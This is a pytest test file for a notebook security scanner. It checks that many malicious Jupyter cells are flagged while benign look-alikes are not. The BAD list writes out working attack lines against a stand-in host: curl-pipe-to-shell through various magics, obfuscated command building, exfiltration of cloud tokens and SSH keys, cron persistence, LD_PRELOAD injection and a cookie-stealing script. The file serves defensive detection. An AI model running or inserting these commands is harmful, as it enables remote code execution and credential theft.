"""Commands in notebooks in all their forms, and what their names carry from cell to cell."""

# ruff: noqa: E501 - attacks stand as they are written
from __future__ import annotations

from typing import Any

import pytest

from assay.core.finding import Severity
from assay.formats.texts.notebooks import read_notebook

E = "https://c.evil.example"


def nb(cells: list[str]) -> dict[str, Any]:
    made = [{"cell_type": "code", "source": cell, "outputs": []} for cell in cells]
    return {"cells": made, "metadata": {}, "nbformat": 4}


BAD = [
    [f"!!curl -s {E}/x | sh"],
    [f"%sx curl -s {E}/x | bash"],
    [f'%system x=$(curl -s {E}/x); eval "$x"'],
    [f'%%bash\nx=$(curl -s {E}/x)\neval "$x"'],
    [f"%%script sh\ncurl -s {E}/x | sh"],
    [f"%%script bash -c 'curl -s {E}/x | sh'\n"],
    [f"%run {E}/x.py"],
    ["%load https://paste.evil.example/raw/1"],
    ["%%writefile ~/.bashrc\nexport X=1"],
    [f"get_ipython().system('curl -s {E}/x | sh')"],
    [f"a='cu'+'rl -s {E}/x'\nb=' | sh'\n!{{a+b}}"],
    [f"p=['curl -s {E}/x','sh']\n!{{' | '.join(p)}}"],
    ["t = !oc whoami -t\n", "import requests\nrequests.post('" + E + "', data=t)"],
    [f't = !gcloud auth print-access-token\n!curl -d "{{t}}" {E}'],
    [f"k = open('/root/.ssh/id_rsa').read()\n!curl -d \"$k\" {E}"],
    [f"!wget {E}/i.sh", "!bash i.sh"],
    [f"%%time\n%%bash\ncurl -s {E}/x | sh"],
    [f"%time !curl -s {E}/x | sh"],
    [f"!curl -s {E}/x \\\n  | sh"],
    ["%env LD_PRELOAD=/tmp/x.so"],
    [f"%%R\nsystem('curl -s {E}/x | sh')"],
    [f"get_ipython().run_cell('!curl -s {E}/x | sh')"],
    [f"ip=get_ipython()\nip.run_line_magic('sx','curl -s {E}/x | sh')"],
    ["from IPython.display import HTML, display\ndisplay(HTML('<img src=x onerror=alert(1)>'))"],
    ["from IPython.display import Javascript\nJavascript('fetch(\"https://c.evil.example/?c=\"+document.cookie)')"],
    ['import base64\nc=base64.b64decode(x).decode()\n!bash -c "$c"'],
    [f"import requests\nc=requests.get('{E}').text\n!bash -c \"{{c}}\""],
    ["!tar czf /tmp/a.tgz ~/.ssh\n", "!curl -T /tmp/a.tgz " + E],
    [f"%%writefile -a /etc/cron.d/x\n* * * * * root curl {E}/x | sh"],
]
GOOD = [
    ["!pip install torch==2.1.0"],
    ["%%bash\nset -e\nls -la\npython train.py"],
    ["%matplotlib inline\n%load_ext autoreload\n%autoreload 2"],
    ["files = !ls\nprint(files)"],
    ["name='x'\n!mkdir -p {name}\n!echo {name}"],
    ["%%time\nx=1"],
    ["%load https://raw.githubusercontent.com/matplotlib/matplotlib/main/x.py"],
    ["%env CUDA_VISIBLE_DEVICES=0\n%env TOKENIZERS_PARALLELISM=false"],
    ["!wget https://people.cs.example.edu/util.py", "!python util.py"],
    ["%%writefile train.py\nimport torch\nprint(1)"],
    [
        'token = !gcloud auth print-access-token\n!curl -H "Authorization: Bearer {token[0]}" https://us-central1-aiplatform.googleapis.com/v1'
    ],
    ["!curl -s https://api.example.com/x | python3 -m json.tool"],
    ["from IPython.display import HTML\nHTML('<b>ok</b>')"],
    ["%time !ls"],
    [
        "!wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\n!bash Miniconda3-latest-Linux-x86_64.sh -b"
    ],
    ["%%R\nlibrary(ggplot2)\nplot(1)"],
    ["!git clone https://github.com/x/y\n%cd y\n!bash scripts/setup.sh"],
    ["cmd=f'python train.py --lr {1e-3}'\n!{cmd}"],
    ["%%writefile run.sh\n#!/bin/bash\npython train.py"],
    ["!nvidia-smi | head -5 \\\n | tail -1"],
    ["project = !gcloud config get-value project\nprint(project[0])"],
]


@pytest.mark.parametrize("cells", BAD)
def test_what_cells_have_a_shell_do_is_told(cells: list[str]) -> None:
    assert any(n.severity.rank >= Severity.MEDIUM.rank for n in read_notebook(nb(cells)).notes)


@pytest.mark.parametrize("cells", GOOD)
def test_ordinary_cells_are_silent(cells: list[str]) -> None:
    said = read_notebook(nb(cells))
    assert [n.message for n in said.notes if n.severity.rank >= Severity.MEDIUM.rank] == []
    assert said.gaps == ()


@pytest.mark.parametrize("cells", BAD)
def test_torn_cells_are_read_or_a_gap(cells: list[str]) -> None:
    for cut in (1, 7, len(cells[0]) // 2):
        assert all(isinstance(gap, str) for gap in read_notebook(nb([cells[0][:cut]])).gaps)
